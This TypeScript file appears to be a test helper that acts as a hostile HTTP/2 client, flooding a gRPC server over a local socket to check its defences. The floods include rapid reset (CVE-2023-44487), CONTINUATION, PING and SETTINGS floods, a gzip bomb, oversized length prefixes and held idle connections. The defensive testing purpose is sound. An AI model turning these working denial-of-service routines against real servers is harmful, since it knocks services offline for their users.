// A hostile HTTP/2 client, run as its own process so its busy loop does not delay the legit client
// that measures latency in the test process:
//   node test/helpers/h2-attack.ts <attack> <socket path> <duration ms> [connections]
// It floods one (or `connections`) connection(s) with raw frames for the duration (or until the
// server closes them), then prints one JSON line: the GOAWAY codes and debug data it received, the
// RST_STREAM codes, the grpc-status of answered streams, and what it sent.
import * as net from "node:net";
import { gzipSync } from "node:zlib";

const [attack, address, durationText, connectionsText] = process.argv.slice(2);
const duration = Number(durationText);
const PREFACE = Buffer.from("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", "latin1");

export function frame(type: number, flags: number, id: number, payload: Buffer = Buffer.alloc(0)): Buffer {
  const out = Buffer.alloc(9 + payload.length);
  out.writeUIntBE(payload.length, 0, 3);
  out[3] = type;
  out[4] = flags;
  out.writeUInt32BE(id, 5);
  payload.copy(out, 9);
  return out;
}
const lit = (name: string, value: string) => Buffer.concat([Buffer.from([0, name.length]), Buffer.from(name), lenPrefix(value)]);
function lenPrefix(value: string): Buffer {
  const v = Buffer.from(value, "latin1");
  if (v.length < 127) return Buffer.concat([Buffer.from([v.length]), v]);
  const out = [127];
  for (let n = v.length - 127; ; n = Math.floor(n / 128)) {
    if (n < 128) {
      out.push(n);
      break;
    }
    out.push((n % 128) | 128);
  }
  return Buffer.concat([Buffer.from(out), v]);
}
const PATH = "/v1.Filesystem/PathExists";
/** POST, http, :path, content-type application/grpc (+ extra fields). */
const requestBlock = (extra: Buffer[] = [], path = PATH) =>
  Buffer.concat([Buffer.from([0x83, 0x86]), lit(":path", path), lit("content-type", "application/grpc"), ...extra]);
const grpcMessage = (message: Buffer, compressed = 0, declared = message.length) => {
  const out = Buffer.alloc(5 + message.length);
  out[0] = compressed;
  out.writeUInt32BE(declared, 1);
  message.copy(out, 5);
  return out;
};
// PathExistsRequest{path: "/nonexistent"}: field 1, length-delimited.
const PATH_REQUEST = Buffer.concat([Buffer.from([0x0a, 12]), Buffer.from("/nonexistent")]);

interface Result { goaway: number[]; debug: string[]; rst: Record<string, number>; status: Record<string, number>; sentBytes: number; closed: boolean }
const unread: net.Socket[] = [];
const result: Result = { goaway: [], debug: [], rst: {}, status: {}, sentBytes: 0, closed: false };

function parse(conn: { buf: Buffer }, chunk: Buffer) {
  conn.buf = conn.buf.length ? Buffer.concat([conn.buf, chunk]) : chunk;
  let p = 0;
  while (conn.buf.length - p >= 9) {
    const len = conn.buf.readUIntBE(p, 3);
    if (conn.buf.length - p < 9 + len) break;
    const type = conn.buf[p + 3], payload = conn.buf.subarray(p + 9, p + 9 + len);
    if (type === 7) {
      result.goaway.push(payload.readUInt32BE(4));
      result.debug.push(payload.subarray(8).toString("latin1"));
    } else if (type === 3) {
      const code = payload.readUInt32BE(0);
      result.rst[code] = (result.rst[code] ?? 0) + 1;
    } else if (type === 1) {
      const at = payload.indexOf("grpc-status");
      if (at >= 0) {
        const n = payload[at + 11];
        const code = payload.toString("latin1", at + 12, at + 12 + n);
        result.status[code] = (result.status[code] ?? 0) + 1;
      }
    }
    p += 9 + len;
  }
  conn.buf = Buffer.from(conn.buf.subarray(p));
}

/** Opens a connection, sends the preface and SETTINGS; `read` false leaves the server's bytes unread until the end. */
async function open(read: boolean) {
  const socket = net.connect(address);
  const conn = { socket, buf: Buffer.alloc(0), closed: false };
  socket.on("error", () => {});
  socket.on("close", () => ((conn.closed = true), (result.closed = true)));
  socket.on("data", (d: Buffer) => parse(conn, d));
  if (!read) {
    socket.pause();
    unread.push(socket);
  }
  await new Promise((r) => socket.once("connect", r));
  await send(conn, Buffer.concat([PREFACE, frame(4, 0, 0)]));
  return conn;
}

/** Writes, waiting for the socket to drain (the server may stop reading: that is back-pressure). */
async function send(conn: { socket: net.Socket; closed: boolean }, bytes: Buffer): Promise<boolean> {
  if (conn.closed) return false;
  result.sentBytes += bytes.length;
  if (conn.socket.write(bytes)) return true;
  return new Promise((resolve) => {
    const done = (ok: boolean) => {
      clearTimeout(t);
      conn.socket.off("drain", onDrain);
      conn.socket.off("close", onClose);
      resolve(ok);
    };
    const onDrain = () => done(true), onClose = () => done(false);
    const t = setTimeout(() => done(false), Math.max(0, deadline - performance.now()));
    conn.socket.once("drain", onDrain);
    conn.socket.once("close", onClose);
  });
}

const deadline = performance.now() + duration;
const running = () => performance.now() < deadline;
/** Repeats `chunk()` until the deadline or the connection closes. */
async function flood(conn: { socket: net.Socket; closed: boolean }, chunk: () => Buffer) {
  while (running() && !conn.closed) {
    if (!(await send(conn, chunk()))) break;
    await new Promise((r) => setImmediate(r));
  }
}
const repeat = (b: Buffer, n: number) => Buffer.concat(Array.from({ length: n }, () => b));

const attacks: Record<string, () => Promise<void>> = {
  /** HEADERS without END_HEADERS, then zero-length CONTINUATION frames. */
  async "continuation-flood"() {
    const conn = await open(true);
    await send(conn, frame(1, 0, 1, requestBlock()));
    const chunk = repeat(frame(9, 0, 1), 8192);
    await flood(conn, () => chunk);
  },
  /** One header block of 1 MiB in 16 KiB CONTINUATIONs. */
  async "huge-header-block"() {
    const conn = await open(true);
    await send(conn, frame(1, 0, 1, requestBlock()));
    const piece = frame(9, 0, 1, Buffer.alloc(16384, 0x41));
    for (let i = 0; i < 64 && running(); i++) if (!(await send(conn, piece))) break;
    await wait(300);
  },
  /** PINGs, never reading the ACKs (`ping-flood-read`: reading them, to see the GOAWAY). */
  async "ping-flood"() {
    const conn = await open(attack.endsWith("-read"));
    const chunk = repeat(frame(6, 0, 0, Buffer.alloc(8)), 4096);
    await flood(conn, () => chunk);
  },
  /** SETTINGS frames, never reading the ACKs (`settings-flood-read`: reading them). */
  async "settings-flood"() {
    const conn = await open(attack.endsWith("-read"));
    const chunk = repeat(frame(4, 0, 0, Buffer.from([0, 4, 0, 1, 0, 0])), 4096);
    await flood(conn, () => chunk);
  },
  /** Empty DATA frames without END_STREAM on an open stream. */
  async "empty-data-flood"() {
    const conn = await open(true);
    await send(conn, frame(1, 4, 1, requestBlock()));
    const chunk = repeat(frame(0, 0, 1), 4096);
    await flood(conn, () => chunk);
  },
  /** Request bodies in 1-byte DATA frames, declaring 4 MiB - 16, on stream after stream. */
  async "tiny-data"() {
    const conn = await open(true);
    const ones = repeat(frame(0, 0, 0, Buffer.from([0x61])), 65536);
    for (let id = 1; running() && !conn.closed; id += 2) {
      const head = Buffer.alloc(5);
      head.writeUInt32BE(4 * 1024 * 1024 - 16, 1);
      await send(conn, Buffer.concat([frame(1, 4, id, requestBlock()), frame(0, 0, id, head)]));
      const mine = Buffer.from(ones); // a queued write is not copied: each stream gets its own frames
      for (let i = 0; i < mine.length; i += 10) mine.writeUInt32BE(id, i + 5);
      for (let sent = 0; sent < 4 * 1024 * 1024 + 65536 && running() && !conn.closed; sent += 65536) if (!(await send(conn, mine))) break;
    }
  },
  /** 100 streams per connection, each a 4 MiB body that never ends (16 KiB DATA frames). */
  async "partial-bodies"() {
    const conns = await Promise.all(Array.from({ length: Number(connectionsText ?? 1) }, () => open(true)));
    await Promise.all(conns.map(async (conn) => {
      const piece = Buffer.alloc(16384, 0x61);
      for (let id = 1; id < 200 && running() && !conn.closed; id += 2) {
        const head = Buffer.alloc(5);
        head.writeUInt32BE(4 * 1024 * 1024, 1);
        await send(conn, Buffer.concat([frame(1, 4, id, requestBlock()), frame(0, 0, id, head)]));
        // 16 frames (256 KiB) per write: the attacker's own per-write cost does not cap its rate on a loaded machine.
        const burst = repeat(frame(0, 0, id, piece), 16);
        for (let sent = 0; sent + burst.length < 4 * 1024 * 1024 && running() && !conn.closed; sent += 16 * 16384) if (!(await send(conn, burst))) break;
      }
      while (running() && !conn.closed) await wait(50);
    }));
  },
  /** CVE-2023-44487: HEADERS + DATA(END_STREAM) + RST_STREAM(CANCEL), stream after stream. */
  async "rapid-reset"() {
    const conn = await open(true);
    let id = 1;
    const message = grpcMessage(PATH_REQUEST);
    await flood(conn, () => {
      const frames: Buffer[] = [];
      for (let i = 0; i < 200; i++, id += 2) frames.push(frame(1, 4, id, requestBlock()), frame(0, 1, id, message), frame(3, 0, id, Buffer.from([0, 0, 0, 8])));
      return Buffer.concat(frames);
    });
  },
  /** Calls of a method the endpoint does not serve (each answered UNIMPLEMENTED without a handler: cheap), as fast as possible, never reading the answers (write back-pressure). */
  async "unread-answers"() {
    const conn = await open(false);
    let id = 1;
    const message = grpcMessage(PATH_REQUEST);
    const unknown = requestBlock([], "/v1.Filesystem/NoSuchMethod");
    await flood(conn, () => {
      const frames: Buffer[] = [];
      for (let i = 0; i < 200; i++, id += 2) frames.push(frame(1, 4, id, unknown), frame(0, 1, id, message));
      return Buffer.concat(frames);
    });
  },
  /**
   * `connections` connections (default 100) sending small calls whose error answers are large and
   * never read. "unread-errors": PathExists with a gzipped 4 000-character path of '%' (75 bytes a
   * call once HPACK has indexed the headers; the error echoes the path, percent-encoded: ~12 KB).
   * "unread-unknown": a method the endpoint does not serve, named by a 3 900-character ':path' of
   * '%' (indexed once; the UNIMPLEMENTED text echoes it: ~12 KB). The server's answers are counted
   * only once the attack ends (the sockets are read then).
   */
  async "unread-errors"() {
    await unreadLargeAnswers(false);
  },
  async "unread-unknown"() {
    await unreadLargeAnswers(true);
  },
  /** 1100 streams whose handlers never get a body (no END_STREAM): those above 1000 are refused. */
  async "many-streams"() {
    const conn = await open(true);
    const frames: Buffer[] = [];
    for (let i = 0, id = 1; i < 1100; i++, id += 2) frames.push(frame(1, 4, id, requestBlock()));
    await send(conn, Buffer.concat(frames));
    await wait(500);
  },
  /** A 4 GB length prefix, and a gzip bomb (4 MiB + 1 of zeros compressed). */
  async "bad-messages"() {
    const conn = await open(true);
    await send(conn, Buffer.concat([frame(1, 4, 1, requestBlock()), frame(0, 1, 1, grpcMessage(Buffer.alloc(10), 0, 0xffffffff))]));
    const bomb = gzipSync(Buffer.alloc(64 * 1024 * 1024));
    await send(conn, Buffer.concat([frame(1, 4, 3, requestBlock([lit("grpc-encoding", "gzip")])), ...chunks(grpcMessage(bomb, 1), 3)]));
    await wait(1000);
  },
  /** An HPACK error: an indexed field with index 0. */
  async "hpack-error"() {
    const conn = await open(true);
    await send(conn, frame(1, 5, 1, Buffer.from([0x80])));
    await wait(300);
  },
  /** A protocol violation: DATA on stream 0. */
  async "protocol-violation"() {
    const conn = await open(true);
    await send(conn, frame(0, 0, 0, Buffer.from("x")));
    await wait(300);
  },
  /**
   * Connections that send half the preface and then nothing ("idle-connections": the whole preface
   * and SETTINGS, then nothing), opened in batches so none is lost to a full listen backlog. The
   * address may list several sockets separated by ',': `connections` on each.
   */
  async "half-preface"() {
    await holdConnections(PREFACE.subarray(0, 10));
  },
  async "idle-connections"() {
    await holdConnections(Buffer.concat([PREFACE, frame(4, 0, 0)]));
  },
};

/** See "unread-errors": the first call indexes its header fields (HPACK dynamic table), the next ones refer to them. */
async function unreadLargeAnswers(unknownMethod: boolean) {
  const conns = await Promise.all(Array.from({ length: Number(connectionsText ?? 100) }, () => open(false)));
  const path = unknownMethod ? "/v1.Filesystem/" + "%".repeat(3900) : PATH;
  const message = unknownMethod ? grpcMessage(PATH_REQUEST) : grpcMessage(gzipSync(Buffer.concat([Buffer.from([0x0a, 0xa0, 0x1f]), Buffer.alloc(4000, "%")])), 1);
  const indexing = (index: number, value: string) => Buffer.concat([Buffer.from([0x40 | index]), lenPrefix(value)]);
  const first = Buffer.concat([
    Buffer.from([0x83, 0x86]), indexing(4, path), indexing(31, "application/grpc"),
    ...(unknownMethod ? [] : [Buffer.from([0x40]), lenPrefix("grpc-encoding"), lenPrefix("gzip")]),
  ]);
  // Dynamic table, newest first: [grpc-encoding,] content-type, :path.
  const again = Buffer.from(unknownMethod ? [0x83, 0x86, 0x80 | 63, 0x80 | 62] : [0x83, 0x86, 0x80 | 64, 0x80 | 63, 0x80 | 62]);
  await Promise.all(conns.map(async (conn) => {
    let id = 1;
    await send(conn, Buffer.concat([frame(1, 4, id, first), frame(0, 1, id, message)]));
    id += 2;
    await flood(conn, () => {
      const frames: Buffer[] = [];
      for (let i = 0; i < 200; i++, id += 2) frames.push(frame(1, 4, id, again), frame(0, 1, id, message));
      return Buffer.concat(frames);
    });
  }));
}

/** See "half-preface"; status.open: still open at the end; status.closed: closed by the server. Prints "held" once all are open. */
async function holdConnections(first: Buffer) {
  const n = Number(connectionsText ?? 100);
  const sockets: net.Socket[] = [];
  for (const target of address.split(",")) {
    for (let i = 0; i < n; i += 50) {
      const batch = Array.from({ length: Math.min(50, n - i) }, () => {
        const s = net.connect(target);
        s.on("error", () => {});
        s.resume();
        s.write(first);
        sockets.push(s);
        return new Promise((r) => (s.once("connect", r), s.once("close", r)));
      });
      await Promise.all(batch);
      await wait(5);
    }
  }
  process.stdout.write("held\n");
  await wait(duration);
  let open = 0;
  for (const s of sockets) if (!s.destroyed && s.readyState === "open") open++;
  result.status.open = open;
  result.status.closed = sockets.length - open;
}

function chunks(message: Buffer, id: number): Buffer[] {
  const out: Buffer[] = [];
  for (let p = 0; p < message.length; p += 16384) {
    const last = p + 16384 >= message.length;
    out.push(frame(0, last ? 1 : 0, id, message.subarray(p, p + 16384)));
  }
  return out;
}
function wait(ms: number) {
  return new Promise((r) => setTimeout(r, ms));
}

process.stdout.write("ready\n");
const run = attacks[attack] ?? attacks[attack.replace(/-read$/, "")];
if (!run) throw new Error(`unknown attack ${attack}`);
await run();
for (const s of unread) s.resume(); // read what the server sent (its GOAWAY) before reporting
await wait(unread.length ? 500 : 200);
process.stdout.write(JSON.stringify(result) + "\n");
process.exit(0);
